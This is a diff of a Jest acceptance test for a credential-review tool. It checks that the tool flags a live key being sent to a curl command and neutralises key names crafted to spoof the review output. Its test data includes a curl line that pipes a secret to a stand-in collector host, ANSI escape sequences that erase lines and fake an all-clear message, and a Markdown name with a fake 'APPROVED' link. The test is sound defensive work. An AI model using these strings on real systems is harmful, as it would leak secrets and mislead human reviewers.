@@ -7,27 +7,12 @@
 import { join } from 'node:path';
 import { runReview } from '../../src/review/run-review';
 import { UNSAFE_CHARS } from '../../src/review/safe-text';
-import { startTestServer, TestServer } from '../support/server';
-import { Workspace, header, removeProvider } from '../acceptance/workspace';
+import { acceptanceSuite, header } from '../acceptance/workspace';
 
 jest.setTimeout(180_000);
 
-let server: TestServer;
-let ws: Workspace;
-
-beforeAll(async () => {
-  server = await startTestServer();
-  ws = await Workspace.create(server);
-});
-
-afterAll(async () => {
-  if (ws) {
-    await ws.destroy().catch(() => undefined);
-    await ws.remove();
-  }
-  await server?.stop();
-  await removeProvider();
-});
+const { workspace } = acceptanceSuite();
+const ws = workspace({}, { destroy: true });
 
 const EXFIL = 'curl -s https://collector.example/in -d @-';
 
@@ -57,13 +42,13 @@ ${
 }
 
 /**
- * As HCL source: erase the line, move up, erase again (three times), then a fake all-clear; then
- * Markdown that would render a link, an APPROVED badge and leave a code span.
+ * As HCL source: erase the line, move up, erase again (three times), then a fake all-clear. The
+ * rulebook refuses control characters in names at plan, so such a name never reaches a review.
  */
-const HOSTILE_HCL_NAME =
-  '\\u001b[2K\\u001b[1A\\u001b[2K\\r'.repeat(3) +
-  'keyform review: no keyform credential changes in this plan.\\n' +
-  '[click](https://evil.example/approve) **APPROVED** `` ` | x';
+const ESCAPES_HCL_NAME = '\\u001b[2K\\u001b[1A\\u001b[2K\\r'.repeat(3) + 'keyform review: no keyform credential changes in this plan.';
+
+/** Markdown that would render a link, an APPROVED badge and leave a code span: a valid name. */
+const MARKDOWN_NAME = '[click](https://evil.example/approve) **APPROVED** `` ` | x';
 
 async function planFile(): Promise<string> {
   const r = await ws.run(['plan', '-input=false', '-out=tfplan']);
@@ -98,23 +83,27 @@ it('GIVEN a live key delivered to a file WHEN a pull request sends it to a curl 
   expect(json.rows[0].sentence).toContain(`will now be sent to command ${EXFIL}`);
 });
 
-it('GIVEN that change WHEN the same pull request adds a key whose name holds ESC sequences and Markdown THEN neither acts and the escalation row is still shown', async () => {
-  ws.write(config(`command = "${EXFIL}"`, HOSTILE_HCL_NAME));
+it('GIVEN that change WHEN the same pull request adds a key whose name holds ESC sequences THEN plan refuses the name (KF-RULE-004), so no plan with it reaches a review', async () => {
+  ws.write(config(`command = "${EXFIL}"`, ESCAPES_HCL_NAME));
+  const r = await ws.run(['plan', '-input=false', '-out=tfplan']);
+  expect(r.code).toBe(1);
+  expect(r.output).toContain('[KF-RULE-004]');
+});
+
+it('GIVEN that change WHEN the same pull request adds a key whose name holds Markdown THEN it does not act and the escalation row is still shown', async () => {
+  ws.write(config(`command = "${EXFIL}"`, MARKDOWN_NAME));
   const plan = await planFile();
 
   const text = await runReview(plan, { format: 'text', failOn: 'escalation' });
   expect(text.exitCode).toBe(3);
   expect(activeChars(text.report)).toEqual([]);
-  expect(text.report).toContain('\\x1b[2K\\x1b[1A');
-  expect(text.report.split('\n').filter((l) => l.startsWith('keyform review: no'))).toEqual([]);
   expect(text.report).toContain(`the secret of payments-svc (LIVE) will now be sent to command ${EXFIL}`);
 
   const md = (await runReview(plan, { format: 'markdown' })).report;
   expect(activeChars(md)).toEqual([]);
   const bait = md.split('\n').find((l) => l.includes('`keyform_api_key.bait`'));
   // The whole name sits in one code span (fence longer than its backticks), its pipe escaped.
-  expect(bait).toContain('| test | ``` \\x1b[2K');
-  expect(bait).toContain('[click](https://evil.example/approve) **APPROVED** `` ` \\| x ``` is a new `secret` key');
+  expect(bait).toContain('| test | ``` [click](https://evil.example/approve) **APPROVED** `` ` \\| x ``` is a new `secret` key');
   expect(md).toContain(`| **LIVE** | the secret of \`payments-svc\` (LIVE) will now be sent to command \`${EXFIL}\``);
 
   const json = (await runReview(plan, { format: 'json' })).report;
